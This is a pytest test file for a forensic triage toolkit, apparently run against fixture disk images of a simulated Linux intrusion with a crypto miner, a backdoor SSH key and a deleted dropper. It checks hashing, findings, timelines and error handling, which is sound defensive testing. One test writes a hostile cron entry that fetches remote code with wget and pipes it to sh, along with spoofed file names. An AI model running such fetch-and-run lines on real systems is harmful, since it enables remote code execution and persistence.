"""The scripts in local mode (CLEANROOM_IMAGE, CLEANROOM_OUT) against the fixture images, as
`cleanroom collect --image` runs them."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import re
import subprocess
import tarfile

import pytest

from conftest import BASH, SCRIPTS, digests, run_local

COMMON = {"schema", "case", "volume_id", "device", "started_at", "finished_at", "tools", "script_sha256",
          "outputs"}
RFC3339 = r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z$"


RESULT_FILE = {"cleanroom.disk-image/1": "image.json", "cleanroom.triage/1": "triage.json",
               "cleanroom.yara/1": "yara.json"}


def check_common(result, run, schema, script):
    assert COMMON <= set(result)
    assert result["schema"] == schema and result["case"] == "CASE-TEST-1" and result["volume_id"] is None
    for key in ("started_at", "finished_at"):
        assert re.match(RFC3339, result[key]), result[key]
    assert result["script_sha256"] == digests(SCRIPTS / script)["sha256"]
    assert all(result["tools"].values()) and "python3" in result["tools"]
    # The last line of stdout is the result, and the same object is the file.
    assert json.loads((run.out / RESULT_FILE[schema]).read_text()) == result
    for output in result["outputs"]:
        assert digests(run.out / output["name"]) == {k: output[k] for k in ("sha256", "sha1", "md5")}
        assert (run.out / output["name"]).stat().st_size == output["size"]
    names = sorted(p.name for p in run.out.iterdir())
    assert names == sorted([o["name"] for o in result["outputs"]] + [RESULT_FILE[schema]])


@pytest.mark.parametrize("variant", ["plain", "partitioned"])
def test_image_pass_digests_equal_coreutils(images, tmp, variant):
    image = images[variant]
    run = run_local("disk-image.sh", image, tmp / "out")
    r = run.result
    check_common(r, run, "cleanroom.disk-image/1", "disk-image.sh")
    want = {}
    for tool, alg in (("sha256sum", "sha256"), ("sha1sum", "sha1"), ("md5sum", "md5")):
        out = subprocess.run([tool, str(image)], capture_output=True, text=True, check=True).stdout
        want[alg] = f"{alg}:{out.split()[0]}"
    assert {k: r[k] for k in want} == want
    assert r["bytes"] == image.stat().st_size
    assert r["second_check"]["match"] is True and r["second_check"]["sha256"] == want["sha256"]
    assert r["outputs"] == []  # local mode: the image pass only


def findings(result, kind, path=None):
    return [f for f in result["findings"] if f["kind"] == kind and (path is None or f["path"] == path)]


@pytest.mark.parametrize("variant", ["plain", "partitioned"])
def test_triage_finds_the_intrusion(images, tmp, variant):
    run = run_local("triage.sh", images[variant], tmp / "out")
    r = run.result
    check_common(r, run, "cleanroom.triage/1", "triage.sh")
    # The miner, the cron entry that restarts it, the backdoor key, the attacker's logins,
    # the deleted dropper.
    assert findings(r, "tmp_executable", "/var/tmp/.x/kswapd0")
    cron = findings(r, "runs_from_tmp", "/var/spool/cron/crontabs/root")
    assert cron and "kswapd0" in cron[0]["evidence"]
    assert findings(r, "fetch_and_run", "/var/spool/cron/crontabs/root")
    keys = findings(r, "authorized_key", "/root/.ssh/authorized_keys")
    assert any("mdrfckr" in k["detail"] and "botnet" in k["detail"] for k in keys)
    logins = [f["detail"] for f in findings(r, "ssh_login", "/var/log/auth.log")]
    assert "root logged in with publickey from 203.0.113.66 (1 time; the first is shown)" in logins
    assert findings(r, "ssh_failed_logins", "/var/log/auth.log")[0]["detail"] == "3 failed SSH logins from 203.0.113.66"
    assert any("/tmp/.x/install.sh" in f["detail"] for f in findings(r, "sudo_command"))
    deleted = findings(r, "deleted_file", "/tmp/.x/install.sh")
    assert deleted and deleted[0]["sha256"].startswith("sha256:")
    assert findings(r, "ld_preload", "/etc/ld.so.preload")
    assert findings(r, "fetch_and_run", "/etc/systemd/system/kworker-update.service")
    assert findings(r, "ssh_key_planting", "/tmp/.x/install.sh")

    # Key files: each category present, each extracted file's SHA-256 is its tar member's.
    by_path = {k["path"]: k for k in r["key_files"]}
    expected = {"/etc/passwd": "accounts", "/etc/shadow": "accounts", "/etc/sudoers": "sudoers",
                "/var/log/auth.log": "auth_log", "/var/log/syslog": "log", "/root/.bash_history": "shell_history",
                "/var/spool/cron/crontabs/root": "cron", "/etc/crontab": "cron",
                "/etc/systemd/system/kworker-update.service": "systemd", "/root/.profile": "rc_profile",
                "/root/.ssh/authorized_keys": "authorized_keys", "/home/ubuntu/.ssh/authorized_keys": "authorized_keys",
                "/var/tmp/.x/kswapd0": "tmp_executable", "/tmp/.x/install.sh": "tmp_executable",
                "/etc/ld.so.preload": "ld_preload"}
    for path, category in expected.items():
        assert by_path[path]["category"] == category, path
    assert by_path["/tmp/.x/install.sh"]["deleted"] is True
    assert by_path["/var/tmp/.x/kswapd0"]["deleted"] is False
    assert "/usr/bin/hello-world" not in by_path
    with tarfile.open(run.out / "key-files.tar.gz") as tar:
        members = {m.name: tar.extractfile(m).read() for m in tar.getmembers()}
    for k in r["key_files"]:
        data = members[k["archive_member"]]
        assert k["sha256"] == "sha256:" + hashlib.sha256(data).hexdigest()
        assert len(data) == k["size"]
    assert b"mdrfckr" in members[by_path["/root/.ssh/authorized_keys"]["archive_member"]]
    manifest = json.loads(members["cleanroom-key-files.json"])
    assert [m["path"] for m in manifest] == [k["path"] for k in r["key_files"]]

    # Listing and timeline.
    body = (run.out / "bodyfile.txt").read_text()
    prefix = "/" if variant == "plain" else "/fs36864/"
    assert f"|{prefix}tmp/.x/install.sh (deleted)|" in body
    rows = list(csv.reader(io.StringIO((run.out / "timeline.csv").read_text())))
    assert rows[0][:3] == ["Date", "Size", "Type"]
    miner = [row for row in rows if row[-1] == f"{prefix}var/tmp/.x/kswapd0"]
    assert miner and miner[0][0] == "2023-11-17T09:03:00Z"
    if variant == "plain":
        assert [f["fsstat_output"] for f in r["filesystems"]] == ["fsstat.txt"]
        assert r["partitions"] == []
    else:
        assert [f["fsstat_output"] for f in r["filesystems"]] == ["fsstat-4096.txt", "fsstat-36864.txt"]
        assert [p["description"] for p in r["partitions"]] == ["bios", "boot", "root"]
        assert {f["fs_offset_sector"] for f in r["findings"]} == {36864}
        assert "fs36864/var/tmp/.x/kswapd0" in members


@pytest.mark.parametrize("variant", ["plain", "partitioned"])
def test_yara_finds_the_miner_the_backdoor_and_the_deleted_dropper(images, tmp, variant):
    run = run_local("yara-scan.sh", images[variant], tmp / "out")
    r = run.result
    check_common(r, run, "cleanroom.yara/1", "yara-scan.sh")
    hits = {(m["rule"], m["path"], m["deleted"]) for m in r["matches"]}
    assert ("Cleanroom_Miner_XMRig", "/var/tmp/.x/kswapd0", False) in hits
    assert ("Cleanroom_Miner_Stratum_URL", "/var/tmp/.x/config.json", False) in hits
    assert ("Cleanroom_SSH_Backdoor_Known_Key_Comment", "/root/.ssh/authorized_keys", False) in hits
    assert ("Cleanroom_Persistence_Cron_Fetch_And_Run", "/var/spool/cron/crontabs/root", False) in hits
    assert ("Cleanroom_SSH_Key_Planted_By_Script", "/tmp/.x/install.sh", True) in hits
    miner = next(m for m in r["matches"] if m["path"] == "/var/tmp/.x/kswapd0")
    assert miner["namespace"] == "miners" and miner["tags"] == ["miner", "linux"]
    assert isinstance(miner["inode"], int) and miner["size"] == 583
    assert r["rules_sha256"].startswith("sha256:") and r["scanned_files"] >= 30
    assert r["outputs"] == []


BAD_INPUTS = {
    "not an image": (b"just some text, no partition table, no file system\n" * 100, 3, "not a disk image"),
    "empty": (b"", 3, "is empty"),
}


@pytest.mark.parametrize("script", ["disk-image.sh", "triage.sh", "yara-scan.sh"])
@pytest.mark.parametrize("bad", ["not an image", "empty", "truncated"])
def test_bad_images_fail_clearly_and_leave_nothing(images, tmp, script, bad):
    image = tmp / "bad.img"
    if bad == "truncated":
        image.write_bytes(images["plain"].read_bytes()[: 40 << 20])
        code, words = 4, "is truncated"
    else:
        data, code, words = BAD_INPUTS[bad]
        image.write_bytes(data)
    run = run_local(script, image, tmp / "out")
    assert run.returncode == code, run.stderr
    first = run.stderr.splitlines()[0]
    assert words in first and str(image) in first, first
    assert run.stdout == ""
    assert list(run.out.iterdir()) == [], "nothing half-written, no work directory left"


def test_nothing_is_overwritten(images, tmp):
    out = tmp / "out"
    out.mkdir()
    (out / "triage.json").write_text("an earlier result\n")
    run = run_local("triage.sh", images["plain"], out)
    assert run.returncode == 2 and "exists already" in run.stderr.splitlines()[0]
    assert sorted(p.name for p in out.iterdir()) == ["triage.json"]
    assert (out / "triage.json").read_text() == "an earlier result\n"


def test_missing_and_bad_parameters_are_refused(images, tmp):
    run = run_local("triage.sh", images["plain"], tmp / "out", case="bad case id")
    assert run.returncode == 2 and "case id" in run.stderr
    run = run_local("triage.sh", tmp / "nonexistent.img", tmp / "out2")
    assert run.returncode == 6 and "does not exist" in run.stderr


def test_missing_tool_is_named(images, tmp):
    # A PATH without the Sleuth Kit: the message names the tool and the fix.
    fake = tmp / "bin"
    fake.mkdir()
    for tool in ("python3", "openssl", "jq", "date", "dirname", "mktemp", "realpath", "stat", "head",
                 "basename", "rm", "mkdir", "cat", "tr"):
        path = subprocess.run(["bash", "-c", f"command -v {tool}"], capture_output=True, text=True).stdout.strip()
        if path:
            (fake / tool).symlink_to(path)
    run = run_local("triage.sh", images["plain"], tmp / "out", PATH=str(fake))
    assert run.returncode == 5, run.stderr
    assert "mmls is missing" in run.stderr.splitlines()[0] and "forensic tooling AMI" in run.stderr
    assert list((tmp / "out").iterdir()) == []


def test_hostile_names_stay_data(tmp):
    """Names with '|', a newline and a fake ' (deleted)' suffix, in places triage reads."""
    tree = tmp / "tree"
    cron = tree / "var" / "spool" / "cron" / "crontabs"
    cron.mkdir(parents=True)
    (cron / "evil|name").write_text("* * * * * /tmp/x\n")
    (cron / "line\nbreak").write_text("* * * * * /dev/shm/y\n")
    (cron / "root (deleted)").write_text("@reboot wget -q -O- http://198.51.100.9/a | sh\n")
    (tree / "tmp").mkdir()
    image = tmp / "hostile.img"
    subprocess.run(["mke2fs", "-q", "-F", "-t", "ext4", "-d", str(tree), str(image), "16M"], check=True,
                   capture_output=True, env={"PATH": "/usr/sbin:/sbin:/usr/bin:/bin", "MKE2FS_CONFIG": "/dev/null"})
    run = run_local("triage.sh", image, tmp / "out")
    r = run.result
    paths = {k["path"]: k for k in r["key_files"]}
    assert "/var/spool/cron/crontabs/evil|name" in paths
    assert "/var/spool/cron/crontabs/line^break" in paths  # the Sleuth Kit prints control characters as ^
    spoof = paths["/var/spool/cron/crontabs/root (deleted)"]
    assert spoof["deleted"] is False, "a live file named '... (deleted)' is not a deleted file"
    assert findings(r, "fetch_and_run", "/var/spool/cron/crontabs/root (deleted)")
    with tarfile.open(run.out / "key-files.tar.gz") as tar:
        for m in tar.getmembers():
            assert not m.name.startswith("/") and ".." not in m.name.split("/") and "\n" not in m.name


def test_a_failed_image_pass_never_completes_the_upload(tmp):
    """Document mode with a stand-in `aws`: when the pass fails mid-stream, the uploader is
    killed before it can see end of file, so no partial image.raw is ever completed."""
    fake = tmp / "bin"
    fake.mkdir()
    log = tmp / "aws.log"
    (fake / "aws").write_text(f"""#!/bin/bash
case "$*" in
    *head-object*) echo "An error occurred (404) when calling the HeadObject operation: Not Found" >&2; exit 254 ;;
    *"s3 cp - "*) cat >/dev/null; echo "completed an upload" >>{log}; exit 0 ;;
    *--version*) echo "aws-cli/stand-in"; exit 0 ;;
esac
echo "unexpected: $*" >>{log}
exit 1
""")
    (fake / "aws").chmod(0o755)
    vol = "vol-0123456789abcdef0"
    byid = tmp / "root" / "dev" / "disk" / "by-id"
    byid.mkdir(parents=True)
    unreadable = tmp / "not-a-device"  # a directory: the pass fails on its first read
    unreadable.mkdir()
    (byid / f"nvme-Amazon_Elastic_Block_Store_{vol.replace('-', '')}").symlink_to(unreadable)
    env = dict(os.environ, PATH=f"{fake}:{os.environ['PATH']}", CLEANROOM_ROOT=str(tmp / "root"),
               CLEANROOM_VOLUME_ID=vol, CLEANROOM_BUCKET="evidence-bucket", CLEANROOM_REGION="us-east-1",
               CLEANROOM_CASE="CASE-TEST-1", TMPDIR=str(tmp),
               CLEANROOM_PREFIX=f"cases/CASE-TEST-1/evidence/111122223333/i-0123456789abcdef0/{vol}/")
    env.pop("CLEANROOM_IMAGE", None)
    p = subprocess.run([BASH, str(SCRIPTS / "disk-image.sh")], capture_output=True, text=True, env=env)
    assert p.returncode == 9, p.stderr
    assert "nothing was completed in S3" in p.stderr
    assert not log.exists() or "completed" not in log.read_text(), log.read_text()
    assert not list(tmp.glob("cleanroom-image.*")), "the work directory is removed"
